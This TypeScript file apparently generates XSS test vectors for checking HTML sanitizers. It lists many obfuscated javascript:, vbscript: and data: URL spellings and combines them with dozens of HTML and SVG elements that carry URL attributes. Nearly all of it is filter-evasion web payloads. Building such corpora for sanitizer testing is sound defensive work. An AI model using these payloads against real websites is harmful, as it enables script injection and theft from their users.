import { base64, insertRoundRobin, spelled, combineEach, type Vector } from "../fragment.ts";

/** URLs that execute code, or that a browser may interpret as code. */
const spellings = [
  ["javascript:RUN", "JAVASCRIPT:RUN", "JaVaScRiPt:RUN", " javascript:RUN", "\u0001javascript:RUN"],
  ["\u001f \tjavascript:RUN", "java\tscript:RUN", "java\nscript:RUN", "java\r\nscript:RUN"],
  [
    "j\na\nv\na\ns\nc\nr\ni\np\nt\n:RUN",
    "javascript\t:RUN",
    "javascript:\nRUN",
    "javascript:RUN//x",
  ],
  ["&#106;avascript:RUN", "&#x6A;avascript:RUN", "&#0000106avascript:RUN", "javascript&colon;RUN"],
  ["javascript&#58;RUN", "javascript&#x3a;RUN", "java&Tab;script:RUN", "java&NewLine;script:RUN"],
  ["&#1;javascript:RUN", "&#9;javascript:RUN", "&#x20;javascript:RUN", "&#0;javascript:RUN"],
  ["&nbsp;javascript:RUN", "\u00a0javascript:RUN", "\u200bjavascript:RUN", "\ufeffjavascript:RUN"],
  ["\u3000javascript:RUN", "java\u00adscript:RUN", "java\u200dscript:RUN", "javascript\uff1aRUN"],
  [
    "\uff4aavascript:RUN",
    "javascr\u0131pt:RUN",
    "java\u017fcript:RUN",
    "javascript://FRIEND/%0aRUN",
  ],
  ["javascript:/*http://x*/RUN", "javascript:'http://x';RUN", "javascript://x/?%0d%0aRUN"],
  ["javascript://\u2028RUN", "javascript:void RUN", "javascript:&#37;0aRUN"],
  [
    "javascript%3aRUN",
    "java%0ascript:RUN",
    "http:javascript:RUN",
    "https:javascript:RUN",
    "x:javascript:RUN",
  ],
  [
    "view-source:javascript:RUN",
    "feed:javascript:RUN",
    "jar:javascript:RUN!/x",
    "url:javascript:RUN",
  ],
  [
    "java<!-- -->script:RUN",
    "<b>javascript:RUN",
    "java\\script:RUN",
    "/javascript:RUN",
    "#javascript:RUN",
  ],
  ["vbscript:RUN", "VBScript:RUN", "livescript:RUN", "mocha:RUN", "tcl:RUN", "ecmascript:RUN"],
  [
    "mailto:x?javascript:RUN",
    "data:text/html,<script>RUN</script>",
    "data:,RUN",
    "about:blank#RUN",
  ],
  [
    "DATA:text/html,<script>RUN</script>",
    "data:image/svg+xml,<svg onload=RUN xmlns='http://www.w3.org/2000/svg'/>",
  ],
  ["data:text/html;charset=utf-7,+ADw-script+AD4-RUN+ADw-/script+AD4-", "data:text/xml,<x>RUN</x>"],
  [
    "blob:http:BEACON",
    "filesystem:http:BEACON",
    "file:///RUN",
    "BEACON",
    "\\\\BEACON",
    "/\\BEACON",
  ],
].flat();

const encoded: Vector[] = [
  (run) => `<a href="data:text/html;base64,${base64(`<script>${run}</script>`)}">x</a>`,
  (run) => `<a href="${spelled.decimal(`javascript:${run}`)}">x</a>`,
  (run) => `<a href=${spelled.decimalOpen(`javascript:${run}`)}>x</a>`,
  (run) => `<a href="${spelled.hex(`javascript:${run}`)}">x</a>`,
  (run) => `<a href="${spelled.hexOpen(`javascript:${run}`)}">x</a>`,
  (run) => `<a href="${spelled.decimalLong(`javascript:${run}`)}">x</a>`,
  (run) => `<a href="javascript:${spelled.percent(run)}">x</a>`,
  (run) => `<a href="${spelled.percent("javascript:")}${run}">x</a>`,
  (run) => `<a href="javascript:${spelled.script(run)}">x</a>`,
  (run) => `<a href="${spelled.script("javascript:")}${run}">x</a>`,
];

/** Elements with a URL attribute, including obsolete ones. */
const carriers: string[] = [
  [
    `<a href=@>x</a>`,
    `<a href='@'>x</a>`,
    `<a href="@" target=_self>x</a>`,
    `<a href="@" download>x</a>`,
  ],
  [
    `<a href="@" href="FRIEND">x</a>`,
    `<a title=x rel=x href="@">x</a>`,
    `<a href="@"><h2>x</h2></a>`,
  ],
  [`<a href="@" ping="BEACON">x</a>`, `<a xlink:href="FRIEND" href="@">x</a>`, `<A HREF="@">x</A>`],
  [
    `<map name=m><area href="@" shape=default></map><img usemap=#m src=FRIEND>`,
    `<q cite="@">x</q>`,
  ],
  [`<form action="@"><button>x</button></form>`, `<form><button formaction="@">x</button></form>`],
  [
    `<form><input type=submit formaction="@"></form>`,
    `<form><input type=image formaction="@"></form>`,
  ],
  [
    `<form id=f action="@"></form><button form=f>x</button>`,
    `<form action="@" method=dialog><button>x`,
  ],
  [
    `<iframe src="@"></iframe>`,
    `<frameset><frame src="@"></frameset>`,
    `<object data="@"></object>`,
  ],
  [
    `<embed src="@">`,
    `<object><param name=src value="@"></object>`,
    `<object codebase="@" data=x></object>`,
  ],
  [
    `<img src="@">`,
    `<img srcset="@ 1x">`,
    `<img dynsrc="@">`,
    `<img lowsrc="@">`,
    `<img longdesc="@" src=FRIEND>`,
  ],
  [
    `<input type=image src="@">`,
    `<video src="@"></video>`,
    `<video poster="@"></video>`,
    `<audio src="@">`,
  ],
  [
    `<picture><source srcset="@"><img></picture>`,
    `<track src="@">`,
    `<bgsound src="@">`,
    `<script src="@"></script>`,
  ],
  [`<body background="@">`, `<table background="@"><tr><td>x</table>`, `<td background="@">x</td>`],
  [
    `<link rel=stylesheet href="@">`,
    `<link rel=import href="@">`,
    `<link rel=icon href="@">`,
    `<link rel=manifest href="@">`,
  ],
  [
    `<base href="@"><a href="RUN">x</a>`,
    `<meta http-equiv=refresh content="0;url=@">`,
    `<blockquote cite="@">x`,
  ],
  [
    `<svg><a href="@"><text y=9>x</text></a></svg>`,
    `<svg><a xlink:href="@"><text y=9>x</text></a></svg>`,
  ],
  [`<svg><use href="@"/></svg>`, `<svg><image href="@"/></svg>`, `<svg><feImage href="@"/></svg>`],
  [
    `<math href="@">x</math>`,
    `<math><mi xlink:href="@">x</mi></math>`,
    `<applet code="@"></applet>`,
  ],
  [
    `<isindex action="@">`,
    `<html manifest="@">`,
    `<head profile="@">`,
    `<ins cite="@">x</ins>`,
    `<del cite="@">x`,
  ],
  [
    `<video><source src="@"></video>`,
    `<command icon="@">`,
    `<menuitem icon="@">`,
    `<portal src="@"></portal>`,
  ],
].flat();

export const addresses: Vector[] = [
  ...spellings.map((address) => `<a href="${address}">x</a>`),
  ...encoded,
  ...combineEach(carriers, ["javascript:RUN"]),
  ...insertRoundRobin(carriers.slice(0, 20), spellings.slice(1, 27)),
];
